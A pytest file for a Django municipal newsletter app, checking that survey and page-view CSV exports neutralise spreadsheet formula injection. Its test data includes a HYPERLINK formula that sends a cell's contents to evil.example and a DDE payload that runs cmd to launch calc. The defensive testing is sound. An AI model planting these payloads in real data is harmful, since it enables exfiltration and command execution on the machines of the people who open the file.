"""CSV exports opened in a spreadsheet: text a reader or an importer wrote must stay text."""
import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from kohoshi.engagement.services import article_view_record, article_views_flush
from kohoshi.newsletters.models import Article
from kohoshi.accounts.models import Role
from kohoshi.staff.tests.factories import TOMAKOMAI, make_staff

pytestmark = pytest.mark.django_db
BROWSER = "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/124.0 Mobile Safari/537.36"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")'


def staff_csv(name: str) -> list[list[str]]:
    client = Client()
    client.force_login(make_staff("viewer", TOMAKOMAI, role=Role.VIEWER))
    response = client.get(reverse(f"staff:{name}", args=[TOMAKOMAI]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cell_makes_formula_starts_text(value):
    from kohoshi.engagement.exports import csv_cell

    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ゴミの日", "", "1-2", "a=b", "＝全角は数式にならない"])
def test_csv_cell_leaves_ordinary_text_alone(value):
    from kohoshi.engagement.exports import csv_cell

    assert csv_cell(value) == value


def test_survey_comment_with_a_formula_is_exported_as_text(article):
    answer = {"helpful": "役に立った", "clarity": "ふつう", "comment": HYPERLINK, "age_band": "40代", "area": ""}
    assert Client().post(reverse("engagement:survey", args=[article.pk]), answer).status_code == 302
    rows = staff_csv("export_survey")
    assert rows[1][10] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_article_title_with_a_formula_is_exported_as_text(article):
    Article.objects.filter(pk=article.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    article_view_record(article, user_agent=BROWSER)
    article_views_flush(everything=True)
    assert staff_csv("export_views")[1][5] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_survey_export_command_writes_formulas_as_text(article):
    from kohoshi.engagement.services import survey_response_create

    survey_response_create(article, comment="-2+3")
    out = io.StringIO()
    call_command("survey_export", "--municipality", TOMAKOMAI, stdout=out, stderr=io.StringIO())
    assert list(csv.reader(io.StringIO(out.getvalue())))[1][10] == "'-2+3"
